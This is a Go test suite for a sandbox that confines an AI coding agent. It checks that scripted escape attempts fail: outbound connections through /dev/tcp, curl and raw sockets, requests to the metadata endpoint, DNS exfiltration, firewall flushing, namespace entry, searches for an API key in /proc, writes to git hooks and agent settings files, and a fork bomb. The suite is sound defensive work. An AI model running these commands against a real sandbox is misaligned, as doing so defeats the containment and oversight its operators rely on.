@@ -1,0 +1,398 @@
+package sandbox
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/netip"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/org/claude-sandbox/internal/engine"
+	"github.com/org/claude-sandbox/internal/testenv"
+)
+
+// outside is a server on the engine's bridge: what an agent would reach if
+// nothing stopped it. It counts what arrives.
+type outside struct {
+	addr     netip.Addr
+	tcp, udp uint16
+	arrived  atomic.Int64
+}
+
+func newOutside(t *testing.T) *outside {
+	t.Helper()
+	bridge, err := net.InterfaceByName("docker0")
+	if err != nil {
+		testenv.Missing(t, "the engine's bridge docker0", err.Error())
+	}
+	addrs, err := bridge.Addrs()
+	if err != nil {
+		t.Fatal(err)
+	}
+	o := &outside{}
+	for _, a := range addrs {
+		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() {
+			o.addr = p.Addr()
+		}
+	}
+	if !o.addr.IsValid() {
+		testenv.Missing(t, "an IPv4 address on docker0", fmt.Sprint(addrs))
+	}
+	l, err := net.Listen("tcp", netip.AddrPortFrom(o.addr, 0).String())
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { l.Close() })
+	o.tcp = uint16(l.Addr().(*net.TCPAddr).Port)
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			o.arrived.Add(1)
+			_, _ = io.WriteString(c, "HTTP/1.0 200 OK\r\n\r\nreached\n")
+			c.Close()
+		}
+	}()
+	p, err := net.ListenPacket("udp", netip.AddrPortFrom(o.addr, 0).String())
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { p.Close() })
+	o.udp = uint16(p.LocalAddr().(*net.UDPAddr).Port)
+	go func() {
+		buf := make([]byte, 1500)
+		for {
+			if _, _, err := p.ReadFrom(buf); err != nil {
+				return
+			}
+			o.arrived.Add(1)
+		}
+	}()
+	return o
+}
+
+// attempts is a script that knocks at the outside in every way it can.
+func (o *outside) attempts() string {
+	return fmt.Sprintf(`
+curl -sS --max-time 3 http://%[1]s:%[2]d/
+(echo x > /dev/tcp/%[1]s/%[2]d)
+echo x > /dev/udp/%[1]s/%[3]d
+python3 - <<'PY'
+import socket
+for family, kind, proto in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP), (socket.AF_PACKET, socket.SOCK_RAW, 0), (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)):
+    try:
+        s = socket.socket(family, kind, proto)
+        s.sendto(b"x", ("%[1]s", %[3]d))
+        print("OPENED", family, kind)
+    except OSError as e:
+        print("refused", e)
+PY
+`, o.addr, o.tcp, o.udp)
+}
+
+func TestControlTheOutsideIsReachableWhenAllowed(t *testing.T) {
+	e, o := connect(t), newOutside(t)
+	tr := (&trial{options: allow(shell(fmt.Sprintf("curl -sS --max-time 5 http://%s:%d/", o.addr, o.tcp)), fmt.Sprintf("%s:%d", o.addr, o.tcp))}).run(t, e)
+	if !strings.Contains(tr.stdout.String(), "reached") || o.arrived.Load() == 0 {
+		t.Errorf("an allowed address is not reached, so the attacks below prove nothing: %q, %q", tr.stdout.String(), tr.stderr.String())
+	}
+}
+
+func TestDeniedDestinationsAreNotReached(t *testing.T) {
+	e, o := connect(t), newOutside(t)
+	tr := (&trial{options: shell(o.attempts() + `
+probe() { if "$@" >/dev/null 2>&1; then echo "REACHED $*"; else echo "stopped $*"; fi; }
+probe curl --max-time 3 http://169.254.169.254/latest/meta-data/
+probe curl --max-time 3 https://denied.example.com
+probe curl --max-time 3 https://1.1.1.1
+probe curl --max-time 3 -6 "https://[2606:4700:4700::1111]/"
+probe curl --max-time 3 http://$(ip route | sed -n 's/^default via \([^ ]*\).*/\1/p'):2375/version
+dig +time=2 +tries=1 @` + o.addr.String() + ` denied.example.com | sed -n 's/.*status: \([A-Z]*\).*/dns \1/p'
+dig +time=2 +tries=1 +tcp @8.8.8.8 denied.example.com | sed -n 's/.*status: \([A-Z]*\).*/dns \1/p'
+dig +time=2 +tries=1 TXT secret-data-in-a-name.denied.example.com | sed -n 's/.*status: \([A-Z]*\).*/dns \1/p'
+`)}).run(t, e)
+	out := tr.stdout.String()
+	if n := o.arrived.Load(); n != 0 {
+		t.Errorf("%d packets or connections arrived outside:\n%s", n, out)
+	}
+	if strings.Contains(out, "REACHED") || strings.Contains(out, "OPENED") || strings.Contains(out, "reached") {
+		t.Errorf("something was reached:\n%s\n%s", out, tr.stderr.String())
+	}
+	if strings.Count(out, "stopped") != 5 || strings.Count(out, "dns REFUSED") != 3 {
+		t.Errorf("not every attempt was made and answered:\n%s\n%s", out, tr.stderr.String())
+	}
+}
+
+func TestNetworkNoneReachesNothing(t *testing.T) {
+	e, o := connect(t), newOutside(t)
+	options := shell(o.attempts() + "ls /sys/class/net")
+	options.User.Network.Mode = "none"
+	tr := (&trial{options: options}).run(t, e)
+	if n := o.arrived.Load(); n != 0 || tr.err != nil {
+		t.Errorf("%d arrived, %v", n, tr.err)
+	}
+	if out := tr.stdout.String(); !strings.HasSuffix(out, "\nlo\n") {
+		t.Errorf("the interfaces are %q", out)
+	}
+}
+
+func TestTheAgentCannotUndoTheFirewall(t *testing.T) {
+	e, o := connect(t), newOutside(t)
+	tr := (&trial{options: shell(`
+iptables -P OUTPUT ACCEPT; iptables -F; iptables-legacy -F; ip6tables -F; ipset destroy
+ip link add x type dummy; ip route del default
+unshare -Urn true && echo "NEW NETWORK NAMESPACE"
+unshare -Ur iptables -F && echo "FLUSHED"
+nsenter -t 1 -n true && echo "ENTERED"
+kill -9 1
+killall sbx-init; pkill sbx-init
+ps -e -o comm= | grep sbx && echo "SEES THE FIREWALL"
+ls /var/run/docker.sock /run/docker.sock && echo "ENGINE"
+mount -t tmpfs x /mnt && echo "MOUNTED"
+echo x > /proc/sys/net/ipv4/ip_forward && echo "SYSCTL"
+grep -q 'NoNewPrivs:.1' /proc/self/status && echo "no new privileges"
+` + o.attempts())}).run(t, e)
+	out := tr.stdout.String()
+	for _, broken := range []string{"FLUSHED", "ENTERED", "SEES", "ENGINE", "MOUNTED", "SYSCTL", "OPENED", "reached", "uid=0"} {
+		if strings.Contains(out, broken) {
+			t.Errorf("%s:\n%s\n%s", broken, out, tr.stderr.String())
+		}
+	}
+	if !strings.Contains(out, "no new privileges") || !strings.Contains(out, "refused") {
+		t.Errorf("the script did not come to its end:\n%s\n%s", out, tr.stderr.String())
+	}
+	if n := o.arrived.Load(); n != 0 {
+		t.Errorf("%d arrived outside", n)
+	}
+}
+
+// TestTheKeyIsNowhereToBeFound looks for the canary key from inside, in what
+// the engine tells about both containers, and in the command lines of this
+// machine, while the agent runs.
+func TestTheKeyIsNowhereToBeFound(t *testing.T) {
+	e := connect(t)
+	docker := testenv.Program(t, "docker")
+	prompt, finish := io.Pipe()
+	tr := &trial{
+		prompt: prompt,
+		options: shell(`
+part=$(printf 'sk-ant-api03-canary-%s' 5f2c8e1b)
+cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n' | grep -a "$part" && echo FOUND
+env | grep -a "$part" && echo FOUND
+grep -ra "$part" /etc /home /run /tmp /var /workspace /usr/local/sbin 2>/dev/null && echo FOUND
+curl -sS --max-time 5 -H "Authorization: Bearer $ANTHROPIC_AUTH_TOKEN" -H 'content-type: application/json' -d '{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"x"}]}' http://127.0.0.1:8790/v1/messages | grep -a "$part" && echo FOUND
+curl -sS --max-time 5 -o /dev/null -w 'without token %{http_code}\n' -d '{}' http://127.0.0.1:8790/v1/messages
+curl -sS --max-time 5 -H "Authorization: Bearer $ANTHROPIC_AUTH_TOKEN" -o /dev/null -w 'elsewhere %{http_code}\n' http://127.0.0.1:8790/v1/files
+echo ready; cat`),
+	}
+	tr.during = func(p *Plan, _ *Workspace) {
+		defer finish.Close()
+		for _, name := range []string{p.Sidecar.Name, p.Agent.Name} {
+			text, err := exec.Command(docker, "inspect", name).CombinedOutput()
+			if err != nil {
+				t.Errorf("inspecting %s: %v: %s", name, err, text)
+			}
+			if strings.Contains(string(text), canary) {
+				t.Errorf("docker inspect %s shows the key", name)
+			}
+		}
+		lines, err := filepath.Glob("/proc/[0-9]*/cmdline")
+		if err != nil || len(lines) < 5 {
+			t.Errorf("found %d command lines, %v", len(lines), err)
+		}
+		for _, file := range lines {
+			if text, err := os.ReadFile(file); err == nil && strings.Contains(string(text), canary) {
+				t.Errorf("%s shows the key: %q", file, text)
+			}
+		}
+	}
+	tr.run(t, e)
+	out := tr.stdout.String()
+	if strings.Contains(out, "FOUND") || strings.Contains(out, canary) {
+		t.Errorf("the key was found inside:\n%s", out)
+	}
+	if !strings.Contains(out, "without token 401") || !strings.Contains(out, "elsewhere 40") {
+		t.Errorf("the proxy let something through:\n%s\n%s", out, tr.stderr.String())
+	}
+	for _, file := range []string{tr.result.Files.Audit, tr.result.Files.Summary, tr.result.Files.Transcript} {
+		if text, err := os.ReadFile(file); err != nil || strings.Contains(string(text), canary) {
+			t.Errorf("%s shows the key, %v", file, err)
+		}
+	}
+}
+
+func TestProtectedPathsCannotBeWritten(t *testing.T) {
+	e := connect(t)
+	tr := (&trial{git: true, options: shell(`
+cd /workspace
+try() { if "$@" 2>/dev/null; then echo "DONE $*"; else echo "stopped $*"; fi; }
+try sh -c 'echo evil > .git/hooks/pre-commit'
+try sh -c 'echo evil > .git/hooks/post-checkout'
+try sh -c 'echo evil >> .git/config'
+try sh -c 'echo ../evil > .git/commondir'
+try sh -c 'echo evil > .git/config.worktree'
+try sh -c 'echo evil > .devcontainer/devcontainer.json'
+try sh -c 'echo evil > .devcontainer.json'
+try sh -c 'mkdir -p .vscode && echo evil > .vscode/tasks.json'
+try sh -c 'echo evil > .claude/settings.json'
+try sh -c 'echo evil > .claude/settings.local.json'
+try mv .git old
+try mv .claude old
+try mv .git/hooks old
+try mv .git/config old
+try mv .devcontainer old
+try rm -rf .devcontainer
+try rmdir .vscode
+try ln -sfT /tmp .vscode
+try ln .git/config linked
+try mount --bind /tmp .git/hooks
+try umount .git/hooks
+try chmod 777 .git/hooks
+echo free > .git/HEAD.free && echo "git works"
+echo free > free.txt && echo "the rest is free"
+`)}).run(t, e)
+	out := tr.stdout.String()
+	if strings.Contains(out, "DONE") || strings.Count(out, "stopped") != 22 {
+		t.Errorf("some attempt went through:\n%s\n%s", out, tr.stderr.String())
+	}
+	if !strings.Contains(out, "git works") || !strings.Contains(out, "the rest is free") {
+		t.Errorf("the agent cannot work:\n%s\n%s", out, tr.stderr.String())
+	}
+	for name, want := range map[string]string{
+		".git/hooks/pre-commit": "#!/bin/sh\n", ".git/config": "[core]\n\trepositoryformatversion = 0\n", ".devcontainer/devcontainer.json": "{}",
+	} {
+		if text, err := os.ReadFile(filepath.Join(tr.dir, name)); err != nil || string(text) != want {
+			t.Errorf("%s now holds %q, %v", name, text, err)
+		}
+	}
+	for _, name := range []string{".git/commondir", ".git/config.worktree", ".vscode", ".devcontainer.json", ".claude"} {
+		if _, err := os.Lstat(filepath.Join(tr.dir, name)); !os.IsNotExist(err) {
+			t.Errorf("%s was left behind: %v", name, err)
+		}
+	}
+}
+
+// TestGitWorksBesideThePlaceholders: commit, branch and checkout must not mind
+// what stands in for missing files.
+func TestGitWorksBesideThePlaceholders(t *testing.T) {
+	e := connect(t)
+	dir := t.TempDir()
+	git := exec.Command(testenv.Program(t, "git"), "init", "-q", dir)
+	if out, err := git.CombinedOutput(); err != nil {
+		t.Fatalf("%v: %s", err, out)
+	}
+	if os.Geteuid() == 0 {
+		if out, err := exec.Command("chown", "-R", "1000:1000", dir).CombinedOutput(); err != nil {
+			t.Fatalf("%v: %s", err, out)
+		}
+	}
+	tr := (&trial{dir: dir, options: shell(`
+set -e
+export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@example.com GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@example.com
+echo one > file; git add -A; git commit -qm one; git checkout -qb topic; echo two > file; git commit -qam two
+git status --porcelain; git ls-files; git log --format=%s`)}).run(t, e)
+	if out := tr.stdout.String(); out != "file\ntwo\none\n" {
+		t.Errorf("git says %q, %q", out, tr.stderr.String())
+	}
+	check := exec.Command("git", "-c", "safe.directory=*", "-C", dir, "log", "--format=%s")
+	if out, err := check.CombinedOutput(); err != nil || string(out) != "two\none\n" {
+		t.Errorf("on the host git says %q, %v", out, err)
+	}
+}
+
+// TestADeadFirewallOpensNothing kills the sidecar while the agent knocks: the
+// agent is stopped and nothing arrives.
+func TestADeadFirewallOpensNothing(t *testing.T) {
+	e, o := connect(t), newOutside(t)
+	tr := &trial{options: shell("echo ready; trap '' INT TERM; while :; do " + fmt.Sprintf("(echo x > /dev/tcp/%s/%d) 2>/dev/null; echo x > /dev/udp/%s/%d", o.addr, o.tcp, o.addr, o.udp) + "; done")}
+	tr.during = func(p *Plan, _ *Workspace) {
+		if err := e.Kill(context.Background(), p.Sidecar.Name, "KILL"); err != nil {
+			t.Error(err)
+		}
+	}
+	tr.run(t, e)
+	if !errors.Is(tr.err, ErrFirewall) || tr.result.ExitCode != 70 || tr.result.Outcome.OK() {
+		t.Errorf("got %v, exit code %d, %+v", tr.err, tr.result.ExitCode, tr.result.Outcome)
+	}
+	if n := o.arrived.Load(); n != 0 {
+		t.Errorf("%d arrived outside", n)
+	}
+}
+
+// TestTheNamespaceStaysClosedWithoutItsFirewall is the same without anybody
+// who stops the agent: it lives on beside a dead sidecar.
+func TestTheNamespaceStaysClosedWithoutItsFirewall(t *testing.T) {
+	e, o := connect(t), newOutside(t)
+	ctx := context.Background()
+	image := testImage(t, e)
+	p := plan(t, shell("sleep infinity"), folder(t))
+	p.Sidecar.Name, p.Sidecar.Image = fmt.Sprintf("sbx-sandbox-test-dead-%d-firewall", os.Getpid()), image
+	s, err := startSidecar(ctx, e, p, &Timings{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer e.Remove(ctx, s.id)
+	id, err := e.Create(ctx, engine.Spec{
+		Name: fmt.Sprintf("sbx-sandbox-test-dead-%d-agent", os.Getpid()), Image: image, Entrypoint: []string{"sleep", "infinity"},
+		Network: "container:" + s.id, User: "1000:1000", CapDrop: []string{"ALL"},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer e.Remove(ctx, id)
+	if err := e.Start(ctx, id); err != nil {
+		t.Fatal(err)
+	}
+	if err := e.Kill(ctx, s.id, "KILL"); err != nil {
+		t.Fatal(err)
+	}
+	select {
+	case <-s.exit:
+	case <-time.After(20 * time.Second):
+		t.Fatal("the sidecar does not die")
+	}
+	stream, err := e.Exec(ctx, id, engine.ExecSpec{Command: []string{"bash", "-c", o.attempts() + "echo end"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer stream.Close()
+	var out strings.Builder
+	if err := stream.Copy(&out, &out); err != nil {
+		t.Fatal(err)
+	}
+	if n := o.arrived.Load(); n != 0 || strings.Contains(out.String(), "reached") || !strings.HasSuffix(out.String(), "end\n") {
+		t.Errorf("%d arrived outside:\n%s", n, out.String())
+	}
+}
+
+// TestAForkBombStaysInside: the limit of processes holds, and the run ends.
+func TestAForkBombStaysInside(t *testing.T) {
+	e := connect(t)
+	tr := (&trial{options: shell(`python3 - <<'PY'
+import os, time
+n = 0
+try:
+    while n < 400:
+        if os.fork() == 0:
+            time.sleep(60)
+        n += 1
+except OSError as e:
+    print("stopped", e)
+print("started", n)
+PY`), adjust: func(p *Plan) { p.Agent.Pids = 64 }}).run(t, e)
+	var n int
+	_, err := fmt.Sscanf(tr.stdout.String(), "stopped [Errno 11] Resource temporarily unavailable\nstarted %d", &n)
+	if err != nil || n >= 64 {
+		t.Errorf("%d processes were possible: %q, %q", n, tr.stdout.String(), tr.stderr.String())
+	}
+}
